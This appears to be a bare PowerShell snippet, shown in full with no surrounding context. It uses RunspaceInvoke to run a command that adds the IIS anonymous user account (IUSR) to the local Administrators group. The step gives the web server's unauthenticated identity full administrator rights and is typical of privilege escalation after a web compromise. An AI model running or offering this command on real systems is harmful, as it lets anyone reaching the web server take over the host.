$ri = New-Object System.Management.Automation.RunspaceInvoke
$ri.Invoke('net localgroup Administrators IUSR /add')
